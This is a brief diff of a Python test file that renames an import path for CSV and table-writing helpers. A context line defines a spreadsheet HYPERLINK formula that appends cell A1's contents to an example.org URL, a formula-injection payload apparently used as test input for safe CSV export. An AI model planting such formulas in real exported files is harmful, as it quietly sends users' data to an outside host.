@@ -9,7 +9,7 @@ import pytest
 from support.profiles import kineto
 
 from analysis.cells import inert
-from analysis.report.tables import write_csv, write_frame
+from analysis.render.tables import write_csv, write_frame
 from bench.cli.main import run
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
